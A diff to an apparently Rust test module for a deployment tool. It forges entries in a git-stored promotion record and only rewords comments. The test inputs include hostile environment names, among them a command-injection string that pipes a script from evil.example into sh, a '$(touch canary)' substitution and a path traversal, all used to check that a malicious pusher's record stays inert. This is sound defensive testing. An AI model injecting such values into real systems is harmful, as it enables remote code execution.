@@ -1,5 +1,5 @@
-//! The record as somebody would write it who may push to the main repository and means harm: nothing of it becomes a
-//! command that a colleague pastes.
+//! A record from an attacker with push access to the main repository: none of it becomes a command that a colleague
+//! pastes.
 
 use serde_json::{Value, json};
 
@@ -7,7 +7,7 @@ use super::{is_harmless, promotes, proposed};
 use crate::sample::sample;
 use crate::support::Deploy;
 
-/// Names that a shell, a terminal or git would act on, or that are none.
+/// Names that act on a shell, a terminal or git, or are invalid.
 const NAMES: [&str; 9] = [
     "production; curl https://evil.example/x | sh #",
     "$(touch canary)",
@@ -20,7 +20,7 @@ const NAMES: [&str; 9] = [
     "../production",
 ];
 
-/// Writes one more event onto the record, whose state and message are these.
+/// Writes one more event to the record, with this state and message.
 #[track_caller]
 pub(super) fn forge(deploy: &Deploy, state: &Value, message: &str) {
     let tip = deploy.git(&deploy.main, &["rev-parse", "refs/smp/record"]);
@@ -34,7 +34,7 @@ pub(super) fn forge(deploy: &Deploy, state: &Value, message: &str) {
     deploy.git(&deploy.main, &["update-ref", "refs/smp/record", &commit]);
 }
 
-/// The state that the record has now.
+/// Returns the record's present state.
 #[track_caller]
 pub(super) fn state(deploy: &Deploy) -> Value {
     serde_json::from_str(&deploy.git(
@@ -44,7 +44,7 @@ pub(super) fn state(deploy: &Deploy) -> Value {
     .unwrap()
 }
 
-/// An announcement of a promotion there, which is still open.
+/// Returns an open announcement of a promotion to this environment.
 pub(super) fn announced(deploy: &Deploy, environment: &str) -> Value {
     json!({
         "id": "00000000deadbeef", "kind": "promote", "environment": environment, "from": deploy.nth(2),
@@ -52,7 +52,7 @@ pub(super) fn announced(deploy: &Deploy, environment: &str) -> Value {
     })
 }
 
-/// What every command says of it.
+/// Runs every command.
 fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
     let commands: [&[&str]; 10] = [
         &["status"],
@@ -69,7 +69,7 @@ fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
     commands.into_iter().map(|args| deploy.smp(args)).collect()
 }
 
-/// Takes the last forged event away again.
+/// Removes the last forged event.
 #[track_caller]
 fn unforge(deploy: &Deploy) {
     deploy.git(
